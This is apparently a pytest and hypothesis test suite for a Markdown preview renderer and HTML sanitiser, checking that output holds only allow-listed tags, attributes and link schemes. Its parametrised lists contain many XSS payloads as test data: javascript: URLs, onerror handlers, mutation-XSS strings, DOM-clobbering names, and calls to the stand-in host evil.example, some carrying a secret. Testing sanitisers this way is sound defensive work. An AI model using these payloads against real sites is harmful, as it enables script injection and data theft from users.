"""Markdown as HTML that runs nothing and fetches nothing, and the net behind it that takes any HTML."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from canvas_server.web.preview.markdown import IMAGE_CHARS_MAX, LINK, NESTING_MAX, Markdown, is_inline_image
from canvas_server.web.preview.sanitise import ALIGNMENTS, ATTRIBUTES, REL, TAGS, sanitise

PIXEL: Final = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
MARKDOWN: Final = Markdown()
WITH_HTML: Final = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


class Elements(HTMLParser):
    """The elements of an HTML text, each as its tag and its attributes, and how deep they are in each other."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.depth = self.deepest = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in ("br", "hr", "img"):
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def assert_inert(html: str) -> None:
    """Check that nothing is in it but what is listed, and that parsing it again, as browsers do, changes nothing."""
    elements = Elements(html)
    assert elements.others == []
    for tag, attributes in elements.found:
        assert tag in TAGS
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel", "target", "class"} if tag == "a" else set())
        allowed = allowed | ({"class"} if tag == "span" else {"align"} if tag in ("th", "td") else set())
        assert attributes.keys() <= allowed, (tag, attributes)
        assert attributes.get("class") in (None, "image", "")
        assert attributes.get("align") in (None, *ALIGNMENTS)
        if tag == "a":
            assert attributes.get("rel") == REL
            assert attributes.get("target") == "_blank"
        if "href" in attributes:
            assert LINK.match(attributes["href"] or "")
        if "src" in attributes:
            assert is_inline_image(attributes["src"] or "")
    assert sanitise(html) == html


def rendered(text: str) -> str:
    html = sanitise(MARKDOWN.render(text))
    assert_inert(html)
    return html


def test_what_commonmark_has_is_shown_with_tables_and_strikethrough() -> None:
    html = rendered(
        "# One *two*\n\n> quote\n\n3. three\n\n`code` **bold** ~~gone~~ a  \nb\n\n---\n\n"
        "|a|b|\n|:-|-:|\n|1|2|\n\n```py\nx\n```\n"
    )
    for part in (
        "<h1>One <em>two</em></h1>",
        "<blockquote>",
        '<ol start="3">',
        "<code>code</code>",
        "<strong>bold</strong>",
        "<s>gone</s>",
        "<br>",
        "<hr>",
        '<th align="left">a</th>',
        '<td align="right">2</td>',
        "<pre><code>x\n</code></pre>",
    ):
        assert part in html


def test_front_matter_is_shown_as_it_is_written() -> None:
    assert rendered("---\na: <b>\n---\n# One\n") == "<pre><code>---\na: &lt;b&gt;\n---\n</code></pre>\n<h1>One</h1>\n"


def test_a_link_opens_elsewhere_and_tells_nobody_where_it_was() -> None:
    assert rendered("[x](<https://a.example/b?c=d&e> 'f')") == (
        '<p><a href="https://a.example/b?c=d&amp;e" title="f"'
        ' target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n'
    )
    assert 'href="mailto:a@b.example"' in rendered("<a@b.example>")


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#115;cript:alert(1)",
        "java&Tab;script:alert(1)",
        "&#x6A;avascript:alert(1)",
        "\u200bjavascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\u00adscript:alert(1)",
        "<java\tscript:alert(1)>",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml;base64,PHN2Zy8+",
        PIXEL,
        "file:///etc/passwd",
        "blob:https://a.example/1",
        "filesystem:https://a.example/1",
        "about:blank",
        "view-source:https://a.example",
        "intent://scan/#Intent;end",
        "/api/v2/canvas",
        "//a.example/x",
        "\\\\\\\\a.example/x",
        "https:a.example",
        "https:///a.example",
        "#top",
        "?x",
        "x.html",
        "mailto:?bcc=a@b.example",
    ],
)
def test_a_link_that_may_lead_nowhere_is_words(address: str) -> None:
    for text in (f"[x]({address})", f"[x][1]\n\n[1]: {address}\n", f"<{address}>"):
        assert "href" not in rendered(text)


def test_an_image_from_elsewhere_is_a_link_that_says_where_it_leads() -> None:
    html = rendered("![Le *vieux* pont](https://evil.example/?q=secret)")
    assert html == (
        f'<p><a class="image" href="https://evil.example/?q=secret" target="_blank" rel="{REL}">'
        "▣ Le vieux pont (evil.example)</a></p>\n"
    )


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://good.example@evil.example/", "evil.example"),
        ("https://good.example:pw@evil.example:8080/", "evil.example"),
        ("HTTPS://EVIL.example", "evil.example"),
        ("https://b\u00fccher.example/", "xn--bcher-kva.example"),
        ("https://xn--80ak6aa92e.com/", "xn--80ak6aa92e.com"),
    ],
)
def test_the_host_that_is_named_is_the_one_that_is_asked(address: str, host: str) -> None:
    assert f"({host})</a>" in rendered(f"![x]({address})")


@pytest.mark.parametrize("address", ["x.png", "/x.png", "//a.example/x.png", "https://[bad/x", "ftp://a.example/x"])
def test_an_image_that_nobody_can_be_asked_for_is_its_words(address: str) -> None:
    html = rendered(f"![words]({address})")
    assert "<img" not in html
    assert "href" not in html
    assert "words" in html


def test_an_image_in_a_link_leads_where_the_link_does() -> None:
    html = rendered("[![x](https://a.example/i.png)](https://b.example/)")
    assert 'href="https://b.example/"' in html
    assert "a.example/i.png" not in html


def test_an_image_in_the_text_itself_is_shown_if_it_is_what_it_says() -> None:
    assert f'<img src="{PIXEL}" alt="x">' in rendered(f"![x]({PIXEL})")
    for address in (
        PIXEL.replace("png", "gif"),
        PIXEL.replace("png", "svg+xml"),
        PIXEL.replace(";base64", ""),
        PIXEL.replace("png", "png;a=b"),
        PIXEL + "A" * IMAGE_CHARS_MAX,
    ):
        assert "<img" not in rendered(f"![x]({address})")
        assert "src" not in sanitise(f'<img src="{address}">')


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<script/src=//evil.example>",
        "<img src=x onerror=alert(1)>",
        "<img srcset='https://evil.example/x 1x'>",
        "<picture><source srcset=//evil.example/x></picture>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
        "<xmp><p title='</xmp><svg onload=alert(1)>'>",
        "<p style='background:url(//evil.example/x)'>x</p>",
        "<style>@import '//evil.example/x'</style>",
        "<link rel=stylesheet href=//evil.example/x>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input name=x></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<video poster=//evil.example/x><audio src=//evil.example/x><track src=//evil.example/x>",
        "<body background=//evil.example/x onload=alert(1)>",
        "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href=https://a.example ping=//evil.example onclick=alert(1) download>x</a>",
        "<p id=location name=body class=hidden>x</p><a id=x name=createElement>y</a>",
        "<img name=getElementById src=x><form id=test><input name=attributes></form>",
        "<!--[if true]><img src=//evil.example/x><![endif]-->",
        "<?xml-stylesheet href='//evil.example/x'?>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<a is=x-y slot=z part=p href=https://a.example/>x</a>",
    ],
)
def test_html_of_the_author_is_text_and_behind_that_the_net_leaves_nothing_of_it(html: str) -> None:
    assert "&lt;" in rendered(html) or "<pre>" in rendered(html)
    for opened in (html, WITH_HTML.render(html)):
        left = sanitise(opened)
        assert_inert(left)
        attributes = str([attributes for _, attributes in Elements(left).found])
        assert "alert" not in attributes
        assert "evil" not in attributes


def test_no_name_of_the_author_becomes_one_of_the_document() -> None:
    html = rendered(
        "# location\n\n```body\nx\n```\n\n[cookie]: https://a.example 'x'\n\n[cookie] ![head](https://a.example)"
    )
    assert "id=" not in html
    assert "name=" not in html
    assert "language-" not in html


@pytest.mark.parametrize(
    "text", ["> " * 300 + "x", "- " * 300 + "x", "*a " * 300 + "b* " * 300, "[" * 300 + "](x)" * 300]
)
def test_nothing_is_nested_deeper_than_browsers_can_take(text: str) -> None:
    assert Elements(rendered(text)).deepest <= 2 * NESTING_MAX + 4


_MARKS: Final = tuple("*_`[]()<>!#~|\\&;:\"'=-+\n /")
_MARKDOWN: Final = ("](", "![", "|-|-|\n", "```", "    ", "> ", "- ", "[a]: ", "https://a.example/", "mailto:", PIXEL)
_TRICKS: Final = ("javascript:", "data:text/html,", "&#106;", "&Tab;", "\u200b", "\u00ad", "\ufffd", "😀", "e\u0301")
_HTML: Final = (
    "<a ",
    "<img src=x ",
    "onerror=alert(1)",
    "style=",
    "<!--",
    "-->",
    "<![CDATA[",
    "<svg>",
    "<math>",
    "<style>",
)
PIECES: Final = st.sampled_from((*_MARKS, *_MARKDOWN, *_TRICKS, *_HTML, "</p>", "<table>"))


@pytest.mark.promise("R35")
@given(st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=60).map("".join))
@example('[a](<https://a.example/"onmouseover=alert(1)//>)')
@example('![">](https://a.example/">)')
def test_whatever_the_markdown_only_what_is_listed_comes_out(text: str) -> None:
    rendered(text.replace("\0", ""))


@pytest.mark.promise("R35")
@given(st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=60).map("".join))
def test_whatever_the_html_only_what_is_listed_comes_out(html: str) -> None:
    left = sanitise(html)
    assert_inert(left)
